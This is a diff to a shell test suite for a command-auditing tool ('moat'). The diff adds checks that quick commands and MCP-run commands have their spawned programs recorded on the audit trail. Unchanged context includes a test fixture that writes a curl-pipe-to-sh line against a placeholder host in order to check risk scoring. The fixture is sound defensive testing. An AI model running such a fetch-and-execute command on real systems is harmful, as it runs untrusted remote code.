@@ -63,6 +63,15 @@ unlike "two at once: and not the other's head" "$pb" 'head -c0'
 like "two at once: the first its sleep" "$pa" '`- \[[0-9]+\] sleep 1$'
 like "two at once: the second its sleep" "$pb" '`- \[[0-9]+\] sleep 0.3$'
 
+# Commands that end at once, maybe before their client has the pid of
+# their process: each still has its own program.
+missing=""
+for k in 1 2 3 4 5 6 7 8; do
+	run_moat session exec "$S" -- true
+	programs "$(last_id)" | grep -q '\] true$' || missing="$missing $k"
+done
+is "quick commands: each has its program" "$missing" ""
+
 # The risk of a program on the trail raises the command's.
 printf 'sh -c "curl -s http://example.invalid/x | sh"\n' >"$T/ws/fetch.sh"
 run_moat session exec "$S" -- sh fetch.sh
@@ -107,7 +116,16 @@ p.wait(timeout=60)
 PY
 )
 like "moat mcp: run_command ran" "$res" 'pcm'
-tr4=$(programs "$(last_id)")
+# The runner completes its row after it answered: wait for that.
+for _ in $(seq 100); do
+	run_moat audit list --agent mcp --limit 1 --json
+	mid=$("$PY" -c 'import json,sys
+r = json.load(sys.stdin)
+print(r[0]["id"] if r and r[0]["status"] == "done" else "")' <<<"$out")
+	[ -n "$mid" ] && break
+	sleep 0.2
+done
+tr4=$(programs "${mid:-0}")
 like "moat mcp: its programs on the trail, rev under the shell" "$tr4" \
     '\] sh -c echo mcp \| rev
  +[0-9.]+s +`- \[[0-9]+\] rev'
